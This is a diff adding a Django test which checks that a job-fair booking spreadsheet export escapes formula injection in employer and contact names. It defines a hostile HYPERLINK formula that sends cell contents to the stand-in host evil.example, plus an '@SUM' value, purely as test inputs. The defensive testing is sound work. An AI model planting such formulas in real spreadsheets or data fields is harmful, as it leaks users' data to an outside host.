@@ -1,14 +1,19 @@
 import datetime
+import io
 import threading
 
 import pytest
 import time_machine
 from django.db import connection
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from fairs import services
 from fairs.models import BoothBooking, JobFair, read_pass_token
+from portal.models import Employer
 from tests import factories
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 
 
 @pytest.fixture
@@ -259,3 +264,26 @@ def test_leaders_cannot_publish_fairs(client, foshan, leader):
     )
     draft.refresh_from_db()
     assert draft.status == "draft"
+
+
+def test_the_bookings_export_shows_a_hostile_employer_name_as_text(
+    client, fair, employer, caseworker
+):
+    Employer.objects.filter(pk=employer.employer.pk).update(
+        name=HOSTILE, contact_name="@SUM(A1:A9)"
+    )
+    booking = services.book_booth(
+        fair, booth(fair), employer=employer.employer, postings=[], by=employer
+    )
+    client.force_login(caseworker)
+    response = client.post(
+        reverse("admin:fairs_boothbooking_changelist"),
+        {"action": "export_selected", "_selected_action": [booking.pk]},
+    )
+    [header, row] = load_workbook(io.BytesIO(response.content)).active.iter_rows()
+    assert all(cell.data_type != "f" for cell in header + row)
+    cells = {heading.value: cell for heading, cell in zip(header, row, strict=True)}
+    assert cells["用人单位"].value == "'" + HOSTILE
+    assert cells["联系人"].value == "'@SUM(A1:A9)"
+    assert cells["展位号"].value == "A01"
+    assert cells["预订时间"].is_date
